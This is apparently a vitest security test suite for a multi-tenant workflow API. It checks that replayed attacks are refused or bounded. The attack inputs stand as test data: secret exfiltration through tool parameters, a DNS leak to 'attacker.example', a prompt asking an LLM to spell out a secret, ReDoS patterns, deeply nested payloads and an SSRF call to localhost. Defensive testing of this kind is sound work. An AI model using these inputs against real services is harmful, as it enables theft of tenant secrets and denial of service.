/**
 * The attacks of a multi-tenant review, replayed against the local stack (dynalite, fauxqs,
 * Redis behind the Upstash bridge), two tenants (dev and acme), a tool server and an
 * OpenAI-compatible server on loopback, with one allow-listed port. Each is refused or bounded.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type ApiFixture, startApiFixture } from "../support/api-fixture.ts";
import { completion } from "../support/fake-openai.ts";

const DEV_TOKEN = "dev-secret-token-4f1c9a";
const ACME_TOKEN = "acme-secret-token-77b2e0";

let api: ApiFixture;

beforeAll(async () => {
  api = await startApiFixture({
    MOVA_SECRET_dev_TOKEN: DEV_TOKEN,
    MOVA_SECRET_acme_TOKEN: ACME_TOKEN,
    RUN_DEADLINE_MS: "10000",
  });
});
afterAll(async () => {
  await api?.close();
});

const one = (steps: unknown[], tools: unknown[] = [], extra: Record<string, unknown> = {}) => ({
  version: "2.2",
  protocols: [{ name: "p", steps }],
  tools,
  ...extra,
});

async function put(name: string, document: unknown, key?: string) {
  return api.call("PUT", `/documents/${name}`, { body: document, ...(key ? { key } : {}) });
}

describe("secrets belong to a tenant", () => {
  it("sends each tenant's own secret to its tool, never the other's, and redacts it from the answer", async () => {
    api.tools.route("GET", "/collect", (request) => ({ body: { echoed: request.query.stolen } }));
    const document = one(
      [
        { id: "call", action: "tool_api", tool_api_id: "collect", output: "got" },
        { id: "end", action: "end" },
      ],
      [{ id: "collect", endpoint: `${api.tools.url}/collect`, parameters: { stolen: "{secrets.TOKEN}" } }],
    );
    for (const [tenantKey, expected, other] of [
      [api.devKey, DEV_TOKEN, ACME_TOKEN],
      [api.acmeKey, ACME_TOKEN, DEV_TOKEN],
    ] as const) {
      expect((await put("leak", document, tenantKey)).status).toBe(201);
      const before = api.tools.requests.length;
      const run = await api.call("POST", "/executions", {
        body: { document: "leak", protocol: "p" },
        key: tenantKey,
      });
      expect(run.status).toBe(200);
      const received = api.tools.requests.slice(before).map((request) => request.query.stolen);
      expect(received).toEqual([expected]);
      const answer = JSON.stringify(run.body);
      expect(answer).not.toContain(expected);
      expect(answer).not.toContain(other);
      const history = await api.call("GET", `/executions/${run.body.executionId}`, { key: tenantKey });
      expect(JSON.stringify(history.body)).not.toContain(expected);
    }
  });

  it("refuses a document that turns a condition on a secret into an oracle", async () => {
    const response = await put(
      "oracle",
      one([
        {
          id: "probe",
          action: "condition",
          conditions: [{ variable: "secrets.TOKEN", operator: "greater_or_equal", value: "m" }],
          next_step: "yes",
          else_step: "no",
        },
        { id: "yes", action: "end", response_template: "yes" },
        { id: "no", action: "end", response_template: "no" },
      ]),
    );
    expect(response.status).toBe(422);
    expect(response.body.error.details.errors).toEqual([
      expect.objectContaining({
        code: "secret_not_allowed_here",
        path: "$.protocols[0].steps[0].conditions[0].variable",
      }),
    ]);
    expect((await api.call("GET", "/documents/oracle")).status).toBe(404);
  });

  it("refuses a secret in a host name (a DNS leak), a prompt (spelled out by the model) and a template", async () => {
    const response = await put(
      "dns",
      one(
        [
          { id: "call", action: "tool_api", tool_api_id: "t" },
          { id: "spell", action: "prompt", prompt: "Spell {secrets.TOKEN} with spaces" },
          { id: "end", action: "end", response_template: "{secrets.TOKEN}" },
        ],
        [{ id: "t", endpoint: "https://{secrets.TOKEN}.attacker.example/x" }],
      ),
    );
    expect(response.status).toBe(422);
    const paths = response.body.error.details.errors
      .filter((issue: { code: string }) => issue.code === "secret_not_allowed_here")
      .map((issue: { path: string }) => issue.path)
      .sort();
    expect(paths).toEqual([
      "$.protocols[0].steps[1].prompt",
      "$.protocols[0].steps[2].response_template",
      "$.tools[0].endpoint",
    ]);
  });

  it("redacts the secret when the tool echoes it reversed or base64-encoded", async () => {
    api.tools.route("GET", "/transform", (request) => {
      const value = String(request.query.k);
      return {
        body: { reversed: [...value].reverse().join(""), b64: Buffer.from(value).toString("base64") },
      };
    });
    const document = one(
      [
        { id: "call", action: "tool_api", tool_api_id: "t", output: "got" },
        { id: "end", action: "end", response_template: "{got.reversed} {got.b64}" },
      ],
      [{ id: "t", endpoint: `${api.tools.url}/transform`, parameters: { k: "{secrets.TOKEN}" } }],
    );
    expect((await put("transform", document)).status).toBe(201);
    const run = await api.call("POST", "/executions", { body: { document: "transform", protocol: "p" } });
    expect(run.status).toBe(200);
    const text = JSON.stringify(run.body);
    expect(text).not.toContain([...DEV_TOKEN].reverse().join(""));
    expect(text).not.toContain(Buffer.from(DEV_TOKEN).toString("base64"));
    expect(run.body.output).toBe("[REDACTED] [REDACTED]");
  });
});

describe("regular expressions run in linear time", () => {
  it("answers ^(a+)+$ against a long run of a's within the request's deadline, completed", async () => {
    const document = one([
      {
        id: "check",
        action: "condition",
        conditions: [{ variable: "text", operator: "matches", value: "^(a+)+$" }],
        next_step: "yes",
        else_step: "no",
      },
      { id: "yes", action: "end", response_template: "matched" },
      { id: "no", action: "end", response_template: "no match" },
    ]);
    expect((await put("redos", document)).status).toBe(201);
    for (const length of [30, 33, 5_000]) {
      const run = await api.call("POST", "/executions", {
        body: { document: "redos", protocol: "p", variables: { text: `${"a".repeat(length)}!` } },
      });
      expect(run.status).toBe(200);
      expect(run.body).toMatchObject({ status: "completed", output: "no match" });
    }
  });

  it("refuses at PUT a pattern that needs backtracking", async () => {
    const response = await put(
      "backref",
      one([
        {
          id: "check",
          action: "condition",
          conditions: [{ variable: "text", operator: "matches", value: "^(a+)\\1$" }],
          else_step: "end",
        },
        { id: "end", action: "end" },
      ]),
    );
    expect(response.status).toBe(422);
    expect(response.body.error.details.errors[0]).toMatchObject({ code: "invalid_operator" });
  });
});

function nested(depth: number): Record<string, unknown> {
  let value: Record<string, unknown> = { leaf: 1 };
  for (let i = 1; i < depth; i++) value = { n: value };
  return value;
}

describe("bounded inputs", () => {
  it("refuses variables nested 2,600 deep with 400 before anything is written, and frees the idempotency key", async () => {
    const echo = one(
      [
        { id: "say", action: "prompt", prompt: "hi" },
        { id: "end", action: "end" },
      ],
      [],
      {},
    );
    (echo.protocols[0] as Record<string, unknown>).name = "echo";
    expect((await put("bounded", echo)).status).toBe(201);
    const key = `deep-${Date.now()}`;
    const deep = await api.call("POST", "/executions", {
      body: { document: "bounded", protocol: "echo", variables: { v: nested(2_600) } },
      headers: { "idempotency-key": key },
    });
    expect(deep.status).toBe(400);
    expect(deep.body.error.code).toBe("input_too_deep");
    const listed = await api.call("GET", "/documents/bounded/protocols/echo/executions");
    expect(listed.status).toBe(200);
    expect(listed.body.items).toEqual([]);
    // The key was never claimed: the same key with a good request runs at once.
    const retry = await api.call("POST", "/executions", {
      body: { document: "bounded", protocol: "echo", variables: { v: 1 } },
      headers: { "idempotency-key": key },
    });
    expect(retry.status).toBe(200);
    expect(retry.body.status).toBe("completed");
  });

  it("refuses session data nested over 1,000 deep (400) and too large (413), creating no session", async () => {
    expect((await put("shop-sessions", one([{ id: "end", action: "end" }]))).status).toBe(201);
    const deep = await api.call("POST", "/sessions", {
      body: { document: "shop-sessions", userId: "u", data: { d: nested(1_001) } },
    });
    expect(deep.status).toBe(400);
    expect(deep.body.error.code).toBe("input_too_deep");
    const large = await api.call("POST", "/sessions", {
      body: { document: "shop-sessions", userId: "u", data: { blob: "x".repeat(70_000) } },
    });
    expect(large.status).toBe(413);
    expect(large.body.error.code).toBe("input_too_large");
    const fine = await api.call("POST", "/sessions", {
      body: { document: "shop-sessions", userId: "u", data: { d: nested(20) } },
    });
    expect(fine.status).toBe(201);
  });

  it("fails a tool step whose JSON response is nested too deeply, without storing it", async () => {
    api.tools.route("GET", "/deep", { body: nested(500) });
    const document = one(
      [
        { id: "call", action: "tool_api", tool_api_id: "t", output: "got" },
        { id: "end", action: "end" },
      ],
      [{ id: "t", endpoint: `${api.tools.url}/deep` }],
    );
    expect((await put("deep-tool", document)).status).toBe(201);
    const run = await api.call("POST", "/executions", { body: { document: "deep-tool", protocol: "p" } });
    expect(run.status).toBe(200);
    expect(run.body.status).toBe("failed");
    expect(run.body.error).toMatchObject({ code: "tool_response_too_deep" });
    expect(run.body.variables.got).toBeUndefined();
  });

  it("never tells the caller what an internal host name resolves to", async () => {
    const document = one(
      [
        { id: "call", action: "tool_api", tool_api_id: "t" },
        { id: "end", action: "end" },
      ],
      [{ id: "t", endpoint: `http://localhost:${api.tools.port}/x` }],
    );
    expect((await put("internal", document)).status).toBe(201);
    const run = await api.call("POST", "/executions", { body: { document: "internal", protocol: "p" } });
    expect(run.body.status).toBe("failed");
    expect(run.body.error.code).toBe("endpoint_refused");
    const text = JSON.stringify(run.body);
    expect(text).not.toMatch(/127\.0\.0\.1|::1|loopback/);
  });

  it("refuses application/json; charset=utf-16 with 415 instead of reading it as UTF-8", async () => {
    const body = Buffer.from(JSON.stringify({ document: "bounded", protocol: "echo" }), "utf16le");
    const response = await fetch(`${api.gateway.url}/executions`, {
      method: "POST",
      headers: { authorization: `Bearer ${api.devKey}`, "content-type": "application/json; charset=utf-16" },
      body,
    });
    expect(response.status).toBe(415);
    expect(((await response.json()) as { error: { code: string } }).error.code).toBe(
      "unsupported_media_type",
    );
  });
});

describe("intent recognition's LLM call", () => {
  it("is bounded by the request's deadline: a model that answers too late recognises nothing", async () => {
    const slow = await startApiFixture({ RUN_DEADLINE_MS: "2000" });
    try {
      const document = {
        version: "2.2",
        intents: [{ name: "greeting", patterns: ["hello"], response_template: "Hi!" }],
        protocols: [{ name: "p", steps: [{ id: "end", action: "end" }] }],
      };
      expect((await slow.call("PUT", "/documents/chat", { body: document })).status).toBe(201);
      const session = await slow.call("POST", "/sessions", { body: { document: "chat", userId: "u" } });
      expect(session.status).toBe(201);
      // The model would pick "greeting", but only after 3 s: past the 500 ms bound.
      slow.llm.queue({ ...completion("greeting"), delayMs: 3_000 });
      const late = await slow.call("POST", `/sessions/${session.body.sessionId}/messages`, {
        body: { text: "good morning" },
      });
      expect(late.status).toBe(200);
      expect(late.body.status).toBe("not_understood");
      // In time, the same answer is taken.
      slow.llm.queue(completion("greeting"));
      const prompt = await slow.call("POST", `/sessions/${session.body.sessionId}/messages`, {
        body: { text: "good morning" },
      });
      expect(prompt.body).toMatchObject({ status: "responded", intent: "greeting" });
    } finally {
      await slow.close();
    }
  });
});
